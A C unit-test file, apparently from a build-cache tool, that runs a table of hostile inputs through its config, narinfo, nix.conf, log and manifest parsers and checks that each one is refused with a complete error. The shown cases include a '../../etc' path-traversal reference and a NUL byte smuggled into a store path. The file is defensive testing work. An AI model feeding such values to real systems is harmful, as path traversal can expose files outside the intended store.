	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\nStorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-g\nNarHash: sha256:04zwf782yjwnh3q6hz5izfd6jyip8kgw6g6yj43fiqhbyhdd0dqw\nNarSize: 1\n" },
	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\nNarHash: sha256:04zwf782yjwnh3q6hz5izfd6jyip8kgw6g6yj43fiqhbyhdd0dqw\nNarSize: 1\nReferences: ../../etc\n" },
	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\nNarHash: md5:abc\nNarSize: 1\n" },
	{ A_NARINFO, I, "StorePath: /nix/store/1p9q0bz6f22dyxh4lw8xs08p4201vyq4-f\x00\nNarHash: sha256:04zwf782yjwnh3q6hz5izfd6jyip8kgw6g6yj43fiqhbyhdd0dqw\nNarSize: 1\n", 130 },
	/* ---- nix.conf ----------------------------------------------------------------------- */
	{ A_NIXCONF, C, "include other.conf\n" },
	{ A_NIXCONF, C, "substituters\n" },

	/* ---- execution logs -------------------------------------------------------------------- */
	{ A_EXECLOG_JSON, X_BADMSG, "{\"runner\":\"remote\"" },
	{ A_EXECLOG_JSON, X_BADMSG, "[1,2,3]" },
	{ A_EXECLOG_JSON, X_BADMSG, "{\"runner\":\"remote\"}}" },
	{ A_EXECLOG_JSON, X_BADMSG, "garbage" },
	{ A_EXECLOG_JSON, X_BADMSG, "{\"runner\":\"remote\"} x" },
	{ A_EXECLOG_JSON, X_BADMSG, "{\"runner\":\"remote\xff\"" },
	{ A_EXECLOG_COMPACT, X_BADMSG, "\x05\x08\x01", 3 },
	{ A_EXECLOG_COMPACT, X_BADMSG, "\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", 11 },
	{ A_EXECLOG_COMPACT, X_BADMSG, "\xff\xff\xff\xff\x0f", 5 },
	{ A_EXECLOG_COMPACT, X_BADMSG, "\x02\xff\xff", 3 },

	/* ---- eligibility manifests ------------------------------------------------------------- */
	{ A_ELIG, C, "" },
	{ A_ELIG, C, "[]" },
	{ A_ELIG, C, "{}" },
	{ A_ELIG, C, "{\"classes\":{}}" },
	{ A_ELIG, C, "{\"classes\":[{}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a b\",\"status\":\"proved\",\"labels\":[\"//a/...\"],\"allowed_modes\":[\"executor\"]}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a\",\"status\":\"sure\",\"labels\":[\"//a/...\"],\"allowed_modes\":[\"executor\"]}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a\",\"status\":\"proved\",\"labels\":[\"//a/...\"],\"allowed_modes\":[\"turbo\"]}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a\",\"status\":\"proved\",\"labels\":[\"a/...\"],\"allowed_modes\":[\"executor\"]}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a\",\"status\":\"proved\",\"labels\":[\"//a/...\"],\"allowed_modes\":[\"executor\"]},"
		     "{\"name\":\"a\",\"status\":\"proved\",\"labels\":[\"//b/...\"],\"allowed_modes\":[\"executor\"]}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a\",\"status\":\"blocked\",\"labels\":[\"//a/...\"],\"allowed_modes\":[\"local\"]}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a\",\"status\":\"candidate\",\"labels\":[\"//a/...\"],\"allowed_modes\":[\"local\"]}]}" },
	{ A_ELIG, C, "{\"classes\":[{\"name\":\"a\",\"status\":\"proved\",\"labels\":[\"//a/...\"],\"allowed_modes\":[\"executor\"],\"proof_required\":\"no\"}]}" },
};

/* ---- runners: each returns the observed outcome (an fw_class or X_*), or
 * FW_CLASS_NONE when the input was accepted. ------------------------------- */

static char ws_dir[64];

static int check_err(int r, const struct fw_error *err)
{
	if (r >= 0)
		return FW_CLASS_NONE;
	if (!fw_error_isset(err))
		return -1000; /* failed without saying why */
	/* every message has a subject and a what; a fix where the class is user-facing */
	if (!err->subject[0] || !err->what[0])
		return -1001;
	if (err->cls != FW_CLASS_INTERNAL && !err->fix[0])
		return -1002;
	return (int)err->cls;
}

/* config_load reads the layers; policy_build validates every value, as the launcher does. */
static int load_and_plan(struct config *c, const struct config_opts *o, struct fw_error *err)
{
	int r = config_load(c, o, err);
	if (r < 0)
		return r;
	struct fw_plan p;
	plan_init(&p);
	struct policy_opts po = { .default_token_file = "/nonexistent/token" };
	r = policy_build(c, &po, &p, NULL, err);
	plan_release(&p);
	return r;
}

static int run_ini(const char *data, size_t len)
{
	char path[128];
	snprintf(path, sizeof(path), "%s/flywheel.ini", ws_dir);
	assert_int_equal(write_file_atomic(path, data, len, 0600), 0);
	char *envp[] = { NULL };
	struct config c;
	struct fw_error err = { 0 };
	config_init(&c);
	struct config_opts o = { .envp = envp, .cwd = ws_dir, .workspace = ws_dir, .no_user_file = true };
	int r = load_and_plan(&c, &o, &err);
	config_release(&c);
	return check_err(r, &err);
}

static int run_envfile(const char *data, size_t len)
{
	/* through config_load, so unknown variables and values count too */
	char path[128];
	snprintf(path, sizeof(path), "%s/.env.flywheel.local", ws_dir);
	assert_int_equal(write_file_atomic(path, data, len, 0600), 0);
	char ini[128];
	snprintf(ini, sizeof(ini), "%s/flywheel.ini", ws_dir);
	unlink(ini);
	char *envp[] = { NULL };
	struct config c;
	struct fw_error err = { 0 };
	config_init(&c);
	struct config_opts o = { .envp = envp, .cwd = ws_dir, .workspace = ws_dir, .no_user_file = true };
	int r = load_and_plan(&c, &o, &err);
	config_release(&c);
	unlink(path);
	return check_err(r, &err);
}

static int run_url(const char *data, unsigned allowed)
{
	struct endpoint ep;
	enum ep_error e = endpoint_parse(data, allowed, &ep);
	if (e == EP_OK) {
		endpoint_release(&ep);
		return FW_CLASS_NONE;
	}
	assert_non_null(ep_error_text(e));
	assert_non_null(ep_error_fix(e));
	return (int)e;
}

static int run_argv(const char *data, size_t len)
{
	if (len && data[len - 1] == '\0') /* the row's length counts the literal's NUL */
		len--;
	struct strv words;
	strv_init(&words);
	size_t start = 0;
	for (size_t i = 0; i <= len; i++)
		if (i == len || data[i] == '\0') {
			char *w = fw_strndup(data + start, i - start);
			assert_non_null(w);
			assert_int_equal(strv_push_take(&words, w), 0);
			start = i + 1;
		}
	struct bazel_cmdline c;
	struct fw_error err = { 0 };
	bazel_cmdline_init(&c);
	int r = bazel_cmdline_parse(words.n, words.v, &c, &err);
	int out = check_err(r, &err);
	if (r == 0) {
		/* the REQUIRED remote cache of executor mode must not be contradicted */
		struct bazel_opts cmd;
		bazel_opts_init(&cmd);
		assert_int_equal(bazel_opts_add(&cmd, BAZEL_OPT_REQUIRED, "executor mode", "remote_cache",
						"grpcs://cache.example"), 0);
		struct strv argv;
		strv_init(&argv);
		r = bazel_argv_build(&c, NULL, &cmd, 0, &argv, &err);
		out = check_err(r, &err);
		strv_release(&argv);
		bazel_opts_release(&cmd);
	}
	bazel_cmdline_release(&c);
	strv_release(&words);
	return out;
}

static int run_manifest(const char *data, size_t len)
{
	struct manifest m;
	struct fw_error err = { 0 };
	manifest_init(&m);
	int r = manifest_parse(data, len, "hostile.json", &m, &err);
	if (r < 0)
		assert_int_equal(m.n_inputs, 0);
	else if (m.n_inputs == 0)
		r = 0;
	manifest_release(&m);
	return check_err(r, &err);
}

static int run_pubkey(const char *data)
{
	struct sign_pubkey k;
	struct fw_error err = { 0 };
	return check_err(sign_pubkey_parse(data, "hostile.pub", &k, &err), &err);
}

static int run_sig(const char *data)
{
	struct sign_pubkey k = { .name = "test" };
	for (size_t i = 0; i < sizeof(k.pk); i++)
		k.pk[i] = (unsigned char)i;
	struct fw_error err = { 0 };
	const struct sign_pubkey *used = NULL;
	return check_err(sign_verify("manifest", 8, data, "hostile.sig", &k, 1, &used, &err), &err);
}

static int run_reapi_frame(const char *data, size_t len)
{
	const uint8_t *msg;
	size_t mlen;
	int r = reapi_unframe((const uint8_t *)data, len, &msg, &mlen);
	return r == 0 ? FW_CLASS_NONE : (r == -EPROTO || r == -EFBIG) ? X_BADMSG : -1003;
}

static int run_reapi_caps(const char *data, size_t len)
{
	struct reapi_caps caps;
	memset(&caps, 0, sizeof(caps));
	int r = reapi_caps_decode((const uint8_t *)data, len, &caps);
	if (r < 0)
		return r == -EPROTO ? X_BADMSG : -1004;
	struct fw_error err = { 0 };
	return check_err(reapi_caps_check(&caps, false, false, "grpcs://cache.example", &err), &err);
}

static int run_credreq(const char *data, size_t len)
{
	char *uri = NULL;
	int r = credhelper_parse_request(data, len, &uri);
	free(uri);
	return r == 0 ? FW_CLASS_NONE : X_BADMSG;
}

static int run_narinfo(const char *data, size_t len)
{
	struct narinfo n;
	struct fw_error err = { 0 };
	narinfo_init(&n);
	int r = narinfo_parse(data, len, &n, &err);
	if (r == 0) {
		/* what the check does next: the signed fingerprint needs sane fields */
		char *fp = NULL;
		r = narinfo_fingerprint(&n, "/nix/store", &fp, &err);
		free(fp);
	}
	narinfo_release(&n);
	return check_err(r, &err);
}

static int run_nixconf(const char *data)
{
	struct narinfo_conf c;
	struct fw_error err = { 0 };
	narinfo_conf_init(&c);
	int r = narinfo_conf_parse(&c, data, "hostile.conf", NULL, &err);
	narinfo_conf_release(&c);
	return check_err(r, &err);
}

static int run_execlog(const char *data, size_t len, bool compact)
{
	struct execlog_counts c;
	int r;
	if (compact) {
		struct execlog_compact *s = execlog_compact_new();
		assert_non_null(s);
		r = execlog_compact_feed(s, data, len);
		if (r == 0)
			r = execlog_compact_finish(s, &c);
		execlog_compact_free(s);
	} else {
		struct execlog_json *s = execlog_json_new();
		assert_non_null(s);
		r = execlog_json_feed(s, data, len);
		if (r == 0)
			r = execlog_json_finish(s, &c);
		execlog_json_free(s);
	}
	return r == 0 ? FW_CLASS_NONE : r == -EBADMSG ? X_BADMSG : -1005;
}

static int run_elig(const char *data, size_t len)
{
	struct elig_manifest m;
	struct fw_error err = { 0 };
	eligibility_init(&m);
	int r = eligibility_parse(data, len, "hostile.json", &m, &err);
	if (r < 0)
		assert_int_equal(m.n_classes, 0);
	eligibility_release(&m);
	return check_err(r, &err);
}

static int run_case(const struct hcase *hc)
{
	size_t len = hc->len ? hc->len : strlen(hc->input);
	switch (hc->area) {
	case A_INI: return run_ini(hc->input, len);
	case A_ENVFILE: return run_envfile(hc->input, len);
	case A_URL_CACHE: return run_url(hc->input, EP_CACHE_SCHEMES);
	case A_URL_EXEC: return run_url(hc->input, EP_EXEC_SCHEMES);
	case A_INSTANCE: return instance_name_problem(hc->input) ? X_REJECT : FW_CLASS_NONE;
	case A_ARGV: return run_argv(hc->input, len);
	case A_MANIFEST: return run_manifest(hc->input, len);
	case A_NAME: return manifest_name_problem(hc->input) ? X_REJECT : FW_CLASS_NONE;
	case A_PUBKEY: return run_pubkey(hc->input);
	case A_SIG: return run_sig(hc->input);
	case A_REAPI_FRAME: return run_reapi_frame(hc->input, len);
	case A_REAPI_CAPS: return run_reapi_caps(hc->input, len);
	case A_CREDREQ: return run_credreq(hc->input, len);
	case A_NARINFO: return run_narinfo(hc->input, len);
	case A_NIXCONF: return run_nixconf(hc->input);
	case A_EXECLOG_JSON: return run_execlog(hc->input, len, false);
	case A_EXECLOG_COMPACT: return run_execlog(hc->input, len, true);
	case A_ELIG: return run_elig(hc->input, len);
	case A__MAX: break;
	}
	return -1;
}

static const char *outcome_name(enum area a, int o)
{
	static char buf[64];
	if (o == FW_CLASS_NONE)
		return "accepted";
	if (a == A_URL_CACHE || a == A_URL_EXEC) {
		snprintf(buf, sizeof(buf), "config (URL: %s)", ep_error_text((enum ep_error)o));
		return buf;
	}
	if (o == X_REJECT)
		return "refused";
	if (o == X_BADMSG)
		return "malformed";
	if (o > FW_CLASS_NONE && o < FW_CLASS__MAX)
		return fw_class_name((enum fw_class)o);
	snprintf(buf, sizeof(buf), "broken error (%d)", o);
	return buf;
}

static void printable(const char *s, size_t len, char *out, size_t outlen)
{
	size_t j = 0;
	for (size_t i = 0; i < len && j + 5 < outlen; i++) {
		unsigned char ch = (unsigned char)s[i];
		if (ch >= 0x20 && ch < 0x7f)
			out[j++] = (char)ch;
		else
			j += (size_t)snprintf(out + j, outlen - j, "\\x%02x", ch);
	}
	out[j] = '\0';
}

static void test_hostile_table(void **state)
{
	(void)state;
	snprintf(ws_dir, sizeof(ws_dir), "/tmp/fw-hostile.XXXXXX");
	assert_non_null(mkdtemp(ws_dir));

	size_t n = FW_ARRAY_SIZE(cases), failed = 0;
	size_t by_area[A__MAX] = { 0 };
	/* classes seen: fw classes, then refused, malformed, URL errors */
	size_t by_class[FW_CLASS__MAX + 3] = { 0 };
	for (size_t i = 0; i < n; i++) {
		const struct hcase *hc = &cases[i];
		int got = run_case(hc);
		by_area[hc->area]++;
		if (got != hc->expect) {
			char shown[200];
			printable(hc->input, hc->len ? hc->len : strlen(hc->input), shown, sizeof(shown));
			char want[64];
			snprintf(want, sizeof(want), "%s", outcome_name(hc->area, hc->expect));
			print_error("hostile case %zu (%s) \"%s\": want %s, got %s\n", i, area_names[hc->area], shown,
				    want, outcome_name(hc->area, got));
			failed++;
			continue;
		}
		if (hc->area == A_URL_CACHE || hc->area == A_URL_EXEC)
			by_class[FW_CLASS_CONFIG]++;
		else if (got == X_REJECT)
			by_class[FW_CLASS__MAX]++;
		else if (got == X_BADMSG)
			by_class[FW_CLASS__MAX + 1]++;
		else
			by_class[got]++;
	}
	printf("hostile inputs: %zu cases, %zu refused as expected, %zu wrong\n", n, n - failed, failed);
	printf("hostile inputs by area:");
	for (int a = 0; a < A__MAX; a++)
		printf("%s %s %zu", a ? "," : "", area_names[a], by_area[a]);
	printf("\nhostile inputs by class:");
	bool first = true;
	for (int c = 1; c < FW_CLASS__MAX + 2; c++) {
		if (!by_class[c])
			continue;
		const char *name = c < FW_CLASS__MAX ? fw_class_name((enum fw_class)c)
				   : c == FW_CLASS__MAX ? "refused (predicate)" : "malformed (stream)";
		printf("%s %s %zu", first ? "" : ",", name, by_class[c]);
		first = false;
	}
	printf("\n");
	char p[128];
	snprintf(p, sizeof(p), "%s/flywheel.ini", ws_dir);
	unlink(p);
	rmdir(ws_dir);
	assert_true(n >= 300);
	assert_int_equal(failed, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_hostile_table),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
